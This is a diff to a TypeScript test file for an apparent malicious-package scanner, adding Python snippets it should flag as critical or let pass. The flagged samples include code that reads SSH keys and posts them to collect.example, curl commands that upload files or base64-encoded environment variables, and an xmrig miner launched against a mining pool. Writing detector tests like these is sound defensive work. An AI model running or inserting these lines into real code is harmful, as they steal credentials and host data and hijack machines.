@@ -205,6 +205,22 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         src: py(['import os, glob, requests', 'def grab():', "    return [open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/*'))]", 'def send(d):', "    requests.post('https://collect.example/k', json=d)", 'send(grab())']),
         min: 'critical',
       },
+      {
+        name: 'command output posted after branches lose the data flow',
+        src: py([
+          'import os, platform',
+          'from urllib import request, parse',
+          "if platform.system() == 'Linux':",
+          "    try:",
+          "        data = {'w': os.popen('whoami').read(), 'h': os.popen('hostname').read()}",
+          '    except Exception:',
+          "        data = {'error': 'none'}",
+          'else:',
+          "    data = {'error': 'os'}",
+          "request.urlopen(request.Request('https://collect.example/r', data=parse.urlencode(data).encode()))",
+        ]),
+        min: 'critical',
+      },
       { name: 'curl uploading a local file', src: py(['import os', "os.system('curl -F f=@/etc/hostname https://collect.example/u')"]), min: 'critical' },
       { name: 'the environment in a curl URL', src: py(['import os', 'os.system(\'curl "https://collect.example/e/$(env | base64 -w 0)"\')']), min: 'critical' },
       {
@@ -235,6 +251,11 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         name: 'a GitHub token sent to the GitHub API',
         src: py(['import os, requests', "requests.get('https://api.github.com/repos/org/lib/releases', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})"]),
         max: 'info',
+      },
+      {
+        name: 'the host name in a build log and a plain download',
+        src: py(['import os, urllib.request', "print('building on', os.popen('hostname').read())", "urllib.request.urlretrieve('https://github.com/org/dep/archive/v1.tar.gz', 'dep.tar.gz')"]),
+        max: 'medium',
       },
       { name: 'curl downloading to a file', src: py(['import os', "os.system('curl -fsSL -o deps.tar.gz https://github.com/org/deps/archive/v1.tar.gz')"]) },
     ],
@@ -574,6 +595,17 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         src: py(['import subprocess, tempfile', "with tempfile.NamedTemporaryFile('w', suffix='.c') as f:", "    f.write('int main(void){return 0;}')", "    subprocess.check_call(['cc', '-c', f.name])"]),
       },
     ],
+  },
+  cryptominer: {
+    flag: [
+      { name: 'a miner started with a pool address', src: py(['import os', "os.system('/tmp/xmrig -o stratum+tcp://pool.example:3333 -u WALLET')"]), min: 'critical' },
+      {
+        name: "a miner's configuration written out",
+        src: py(['import json', "open('/tmp/config.json', 'w').write(json.dumps({'autosave': True}) + '{\"nicehash\": true, \"pools\": []}')"]),
+        min: 'critical',
+      },
+    ],
+    pass: [{ name: 'mining named in the description', src: py(['from setuptools import setup', "setup(name='x', description='Tools for xmrig log analysis')"]) }],
   },
   'packed-runtime': {
     flag: [
